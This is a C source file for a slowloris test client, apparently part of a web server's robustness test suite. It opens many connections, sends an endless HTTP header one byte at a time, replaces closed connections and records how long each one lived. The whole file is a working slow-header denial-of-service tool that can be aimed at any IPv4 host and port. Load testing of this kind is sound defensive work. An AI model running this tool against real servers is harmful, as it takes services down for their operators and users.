/*
 * slowloris — a cheap slow-header attacker for t/robust_slowloris.t.
 *
 * Keeps N connections to HOST:PORT open, each sending one byte of a request
 * head every INTERVAL ms (a head that never ends: its one header value is
 * endless), and replaces every connection the server closes, until SECONDS
 * have passed or SIGTERM. In C with epoll so that the attack itself costs
 * little CPU: on a 2-core machine a scripted attacker would take the CPU
 * the normal client's throughput is measured with.
 *
 *   slowloris -c HOST:PORT -n N -i INTERVAL_MS -t SECONDS [-b BURST] -r READY -o RESULTS
 *     BURST    connections opened at most per INTERVAL (default N): below N
 *              the connections, and so their timeouts and replacements, are
 *              spread over time instead of coming in one wave of N connects
 *              (which overflows a 511-connection listen backlog whenever the
 *              server's worker is not on a CPU at that moment)
 *     READY    written (the number of connections open) once the first N
 *              connections were opened
 *     RESULTS  one line per connection at the end: "LIFETIME BYTES", the
 *              seconds from connect() to the server's close and the bytes
 *              the server sent before it; LIFETIME is negative (minus the
 *              age) for a connection still open at the end
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

struct slow {
    int fd;          /* -1: free slot */
    double t0;       /* connect() time */
    size_t pos;      /* bytes of the head sent */
    unsigned long got;
};

static const char head_start[] = "GET /a.txt HTTP/1.1\r\nHost: localhost\r\nX-Slow: ";
static volatile sig_atomic_t stop;
static struct sockaddr_in peer;
static int ep;
static FILE *results;

static void on_term(int sig)
{
    (void)sig;
    stop = 1;
}

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int slow_open(struct slow *s)
{
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (fd < 0) return -1;
    if (connect(fd, (struct sockaddr *)&peer, sizeof peer) < 0 && errno != EINPROGRESS) {
        close(fd);
        return -1;
    }
    struct epoll_event ev = {.events = EPOLLIN | EPOLLRDHUP, .data.ptr = s};
    epoll_ctl(ep, EPOLL_CTL_ADD, fd, &ev);
    s->fd = fd;
    s->t0 = now();
    s->pos = 0;
    s->got = 0;
    return 0;
}

static void slow_close(struct slow *s, double t)
{
    fprintf(results, "%.3f %lu\n", t - s->t0, s->got);
    close(s->fd); /* also leaves the epoll set */
    s->fd = -1;
}

int main(int argc, char **argv)
{
    const char *addr = NULL, *ready = NULL, *out = NULL;
    int n = 1000, interval_ms = 250, secs = 8, burst = 0, opt;
    while ((opt = getopt(argc, argv, "c:n:i:t:b:r:o:")) != -1) {
        switch (opt) {
        case 'c': addr = optarg; break;
        case 'n': n = atoi(optarg); break;
        case 'i': interval_ms = atoi(optarg); break;
        case 't': secs = atoi(optarg); break;
        case 'b': burst = atoi(optarg); break;
        case 'r': ready = optarg; break;
        case 'o': out = optarg; break;
        default: goto usage;
        }
    }
    const char *colon = addr ? strrchr(addr, ':') : NULL;
    if (!colon || !ready || !out || n <= 0 || interval_ms <= 0) {
    usage:
        fprintf(stderr, "usage: slowloris -c HOST:PORT -n N -i MS -t SECONDS [-b BURST] -r READY -o RESULTS\n");
        return 2;
    }
    char host[64];
    snprintf(host, sizeof host, "%.*s", (int)(colon - addr), addr);
    peer.sin_family = AF_INET;
    peer.sin_port = htons((unsigned short)atoi(colon + 1));
    if (inet_pton(AF_INET, host, &peer.sin_addr) != 1) goto usage;

    struct rlimit rl;
    if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < (rlim_t)n + 64) {
        rl.rlim_cur = rl.rlim_max < (rlim_t)n + 64 ? rl.rlim_max : (rlim_t)n + 64;
        setrlimit(RLIMIT_NOFILE, &rl);
    }
    signal(SIGPIPE, SIG_IGN);
    signal(SIGTERM, on_term);
    signal(SIGINT, on_term);
    results = fopen(out, "w");
    ep = epoll_create1(EPOLL_CLOEXEC);
    struct slow *conns = calloc((size_t)n, sizeof *conns);
    if (!results || ep < 0 || !conns) {
        perror("slowloris");
        return 1;
    }
    if (burst <= 0 || burst > n) burst = n;
    for (int i = 0; i < n; i++) conns[i].fd = -1;
    char tmp[4096];
    int ticks = 0, ramp_ticks = (n + burst - 1) / burst;

    double end = now() + secs, next_tick = now();
    struct epoll_event evs[256];
    while (!stop) {
        double t = now();
        if (t >= end) break;
        if (t >= next_tick) {
            int opened = 0, open_now = 0;
            for (int i = 0; i < n; i++) {
                struct slow *s = &conns[i];
                if (s->fd < 0) {
                    /* the first ones, or a replacement for one the server closed */
                    if (opened < burst && slow_open(s) == 0) opened++, open_now++;
                    continue;
                }
                open_now++;
                char c = s->pos < sizeof head_start - 1 ? head_start[s->pos] : 's';
                ssize_t w = send(s->fd, &c, 1, MSG_NOSIGNAL);
                if (w == 1) s->pos++;
                /* still connecting (EAGAIN) or refused: the read side tells */
            }
            next_tick = t + interval_ms / 1000.0;
            if (++ticks == ramp_ticks) { /* the first N were tried: report how many are open */
                snprintf(tmp, sizeof tmp, "%s.tmp", ready);
                FILE *r = fopen(tmp, "w");
                if (r) {
                    fprintf(r, "%d\n", open_now);
                    fclose(r);
                    rename(tmp, ready);
                }
            }
        }
        int wait_ms = (int)((next_tick - now()) * 1000) + 1;
        int k = epoll_wait(ep, evs, 256, wait_ms < 0 ? 0 : wait_ms);
        double tk = now();
        for (int j = 0; j < k; j++) {
            struct slow *s = evs[j].data.ptr;
            if (s->fd < 0) continue;
            ssize_t got = recv(s->fd, tmp, sizeof tmp, 0);
            if (got > 0) {
                s->got += (unsigned long)got;
                continue;
            }
            if (got < 0 && (errno == EAGAIN || errno == EINTR)) continue;
            slow_close(s, tk);
        }
    }
    double t = now();
    for (int i = 0; i < n; i++)
        if (conns[i].fd >= 0) fprintf(results, "%.3f %lu\n", -(t - conns[i].t0), conns[i].got);
    fclose(results);
    return 0;
}
